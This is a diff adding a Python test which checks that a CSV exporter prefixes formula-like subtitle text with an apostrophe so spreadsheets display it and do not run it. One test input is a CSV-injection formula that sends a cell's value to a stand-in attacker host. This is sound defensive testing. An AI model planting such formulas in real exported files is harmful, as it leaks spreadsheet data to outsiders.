@@ -41,6 +41,20 @@ def decode(path):
         return kinds, float(c.duration / 1e6), frames
 
 
+def test_csv_text_that_a_spreadsheet_would_run_is_shown_not_run(tmp_path):
+    """Subtitles or speech can say =HYPERLINK(...): a cell starting = + - @ (or a tab, a carriage return) is a
+    formula to a spreadsheet; it gets a leading ', and other text stays as it is."""
+    a = make_analysis(6)
+    said = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1 555 0100", "-- hey", "@channel", "\tindent",
+            "Fine = good"]
+    for seg, text in zip(a.segments, said):
+        seg.text, seg.translation = text, text
+    with open(export.write_csv(a, tmp_path / "a.csv"), newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert [r["text"] for r in rows] == ["'" + t for t in said[:5]] + ["Fine = good"]
+    assert [r["translation"] for r in rows] == [r["text"] for r in rows]
+
+
 def test_csv_reads_back(tmp_path):
     a = make_analysis(6)
     path = export.write_csv(a, tmp_path / "a.csv")
